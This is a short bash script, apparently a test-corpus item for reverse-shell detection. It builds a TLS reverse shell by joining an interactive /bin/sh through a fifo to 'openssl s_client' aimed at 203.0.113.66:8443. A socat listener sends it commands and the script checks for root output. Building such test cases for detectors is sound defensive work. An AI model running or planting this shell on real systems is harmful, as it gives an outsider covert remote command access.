#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=openssl,dash far=out ready=out:8443 seconds=20 parts=dns
# A fifo joins a shell and openssl s_client: what somebody outside types comes in TLS.
if [ "$1" = out ]; then
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 -subj /CN=x -keyout "$LAB/b.key" -out "$LAB/b.pem" 2>/dev/null
	(sleep 4; for line in id "ls /" "uname -a" exit; do echo "$line"; sleep 2; done) | timeout 30 socat -t 2 - OPENSSL-LISTEN:8443,bind=203.0.113.66,reuseaddr,verify=0,cert="$LAB"/b.pem,key="$LAB"/b.key >"$LAB/heard"; exit 0
fi
mkfifo "$LAB/f"; timeout 18 sh -c "/bin/sh -i <$LAB/f 2>&1 | openssl s_client -quiet -connect 203.0.113.66:8443 >$LAB/f 2>/dev/null"
grep -q uid=0 "$LAB/heard"
